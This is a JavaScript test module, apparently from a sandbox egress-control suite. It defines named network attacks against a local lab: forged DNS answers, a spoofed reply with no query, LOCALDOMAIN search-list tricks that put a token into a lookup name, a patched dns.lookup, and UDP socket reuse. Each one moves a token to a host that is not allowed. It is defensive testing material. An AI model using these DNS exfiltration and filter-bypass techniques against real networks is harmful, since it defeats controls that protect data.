/**
 * Names and answers manipulated so that an allowed name exfiltrates data, or resolves to another host. The effect: the token arrives at a name server
 * or host that is not allowed.
 */
'use strict';
const dgram = require('node:dgram');
const dns = require('node:dns');
const net = require('node:net');
const { once } = require('node:events');

exports.category = 'network';

/** Starts a name server that resolves every name to one address. */
async function nameServer(address, port = 0, host = '127.0.0.1') {
  const server = dgram.createSocket('udp4').bind(port, host);
  await once(server, 'listening');
  server.on('message', (query, from) => {
    const answer = Buffer.concat([query.subarray(0, 2), Buffer.from([0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]), query.subarray(12)]);
    const end = query.indexOf(0, 12) + 5;
    const record = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, ...address.split('.').map(Number)]);
    server.send(Buffer.concat([answer.subarray(0, end), record]), from.port, from.address);
  });
  return server;
}

async function send(lab, host = lab.host) {
  const socket = net.connect(lab.ports.tcp, host);
  await once(socket, 'connect');
  await new Promise((done, failed) => socket.on('error', failed).write(`${lab.token}\n`, done));
  socket.destroy();
}

async function misled(lab, port) {
  // A separate address for each run: concurrent runs may listen on that port.
  const own = `127.${lab.token.match(/../g).slice(0, 3).map((byte) => parseInt(byte, 16)).join('.')}`;
  const server = await nameServer(lab.host, port, own);
  try {
    const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
    resolver.setServers([`${own}:${server.address().port}`]);
    const [address] = await resolver.resolve4(lab.allowedName);
    await send(lab, address);
  } finally {
    server.close();
  }
}

const searched = async (lab, variables) => {
  Object.assign(process.env, variables);
  await dns.promises.lookup(lab.allowedName).catch(() => undefined);
};

exports.attacks = {
  'an answer of our own for an allowed name': { run: (lab) => misled(lab, 0) },
  'an answer of our own, from the port of name servers': { run: (lab) => misled(lab, 53) },
  'an answer of our own without a question': {
    run: async (lab) => {
      const sender = dgram.createSocket('udp4').bind(0, '127.0.0.1');
      const receiver = dgram.createSocket('udp4').bind(0, '127.0.0.1');
      await Promise.all([once(sender, 'listening'), once(receiver, 'listening')]);
      const labels = lab.allowedName.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
      const question = Buffer.concat([...labels, Buffer.from([0, 0, 1, 0, 1])]);
      const record = Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, ...lab.host.split('.').map(Number)]);
      sender.send(Buffer.concat([Buffer.from([0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]), question, record]), receiver.address().port, '127.0.0.1');
      await once(receiver, 'message');
      sender.close();
      receiver.close();
      await send(lab);
    },
  },
  'a search list by LOCALDOMAIN': { run: (lab) => searched(lab, { LOCALDOMAIN: `${lab.token}.${lab.otherName}`, RES_OPTIONS: 'ndots:9' }) },
  'a search list by LOCALDOMAIN for resolve4': {
    run: async (lab) => {
      Object.assign(process.env, { LOCALDOMAIN: `${lab.token}.${lab.otherName}`, RES_OPTIONS: 'ndots:9' });
      await new dns.promises.Resolver({ timeout: 400, tries: 1 }).resolve4('allowed').catch(() => undefined);
      await dns.promises.lookup('allowed').catch(() => undefined);
    },
  },
  'a name that is an address with a name around it': { run: (lab) => send(lab, `${lab.host}.`).catch(() => send(lab, lab.host)) },
  'an allowed name whose lookup is replaced': {
    run: async (lab) => {
      const { lookup } = dns;
      dns.lookup = (name, options, done) => (options.all ? done(null, [{ address: lab.host, family: 4 }]) : done(null, lab.host, 4));
      try {
        await send(lab, lab.allowedName);
      } finally {
        dns.lookup = lookup;
      }
    },
  },
  'UDP to an allowed host, then elsewhere by the same socket': {
    run: async (lab) => {
      const socket = dgram.createSocket('udp4');
      await new Promise((done) => socket.connect(lab.ports.udp, '127.0.0.1', done));
      socket.disconnect();
      await new Promise((done, failed) => socket.send(lab.token, lab.ports.udp, lab.host, (error) => (error ? failed(error) : done())));
      socket.close();
    },
  },
};
